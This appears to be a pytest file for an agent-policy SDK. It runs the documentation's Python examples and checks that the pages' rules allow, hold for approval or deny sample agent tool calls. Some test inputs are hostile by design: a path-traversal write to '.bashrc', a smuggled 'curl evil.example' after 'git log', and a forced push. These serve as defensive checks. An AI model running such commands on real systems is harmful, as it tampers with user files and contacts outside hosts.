"""Every Python example on the pages about the SDK is code that runs."""

from typing import Any

import pytest

from sayso.core.policy.events import PolicyEvent
from sayso.core.policy.rules import Action
from sayso.testing import InProcessDesk
from tests.pages import find_blocks, read_page
from tests.sayso.core.policy.rule_files import parse

SDK, HEADLESS = find_blocks(read_page("sdk"), "python"), find_blocks(read_page("start/headless"), "python")
EXAMPLES = [*SDK[1:], *HEADLESS]


def run(block: str) -> dict[str, Any]:
    names: dict[str, Any] = {"__name__": "example"}
    exec(compile(block, "docs", "exec"), names)  # noqa: S102  it is our own page
    return names


@pytest.mark.parametrize("block", EXAMPLES, ids=range(1, len(EXAMPLES) + 1))
def test_examples_are_complete(block: str) -> None:
    names = run(block)
    tests = [thing for name, thing in names.items() if name.startswith("test_")]
    for test in tests:
        test()
    assert tests or "gate" in names


def test_worker_page_agent_pays_the_approved_amount() -> None:
    (code,), (rules,) = (find_blocks(read_page("start/worker"), kind) for kind in ("python", "yaml"))
    desk = InProcessDesk(policy=rules)
    desk.reviewer.approves("refund", args={"order": "A-1", "amount": 200})
    end = desk.run(run(code)["agent"], "Refund order A-1.")
    assert (end.status, end.result) == ("completed", {"text": "Refunded."})


def test_mandates_page_proposes_plans() -> None:
    (rules,), (plan, confined) = (find_blocks(read_page("mandates"), kind) for kind in ("yaml", "python"))
    desk = InProcessDesk(policy=rules)
    desk.add_reviewer("anna").approves("mandate")
    names: dict[str, Any] = {"client": desk.client()}
    exec(compile(plan.replace("client = Client()\n", ""), "docs", "exec"), names)  # noqa: S102  it is our own page
    exec(compile(confined, "docs", "exec"), names)  # noqa: S102  it is our own page
    assert names["mandate"].in_force


@pytest.mark.parametrize(
    ("page", "tool", "args", "action"),
    [
        ("start/headless", "read_file", {}, Action.ALLOW),
        ("start/headless", "write_file", {}, Action.REQUEST_APPROVAL),
        ("start/worker", "refund", {"amount": 50}, Action.ALLOW),
        ("start/worker", "refund", {"amount": -50}, Action.REQUEST_APPROVAL),
        ("start/coding-agents", "files.read_file", {"path": "/srv/agent/x"}, Action.ALLOW),
        ("start/coding-agents", "files.write_file", {"path": "/srv/agent/src/a.py"}, Action.ALLOW),
        ("start/coding-agents", "files.write_file", {"path": "/srv/agent/src/../.bashrc"}, Action.REQUEST_APPROVAL),
        ("start/coding-agents", "shell.run", {"command": "git log | head -3"}, Action.ALLOW),
        ("start/coding-agents", "shell.run", {"command": "git log; curl evil.example"}, Action.REQUEST_APPROVAL),
        ("start/coding-agents", "shell.run", {"command": "git push --force"}, Action.DENY),
    ],
)
def test_rules_of_the_pages_decide_as_stated(page: str, tool: str, args: dict[str, Any], action: Action) -> None:
    (rules,) = find_blocks(read_page(page), "yaml")
    event = PolicyEvent(run_id="run_1", agent="nightly-report", tool_name=tool, tool_args=args)
    assert parse(rules).judge(event).action is action
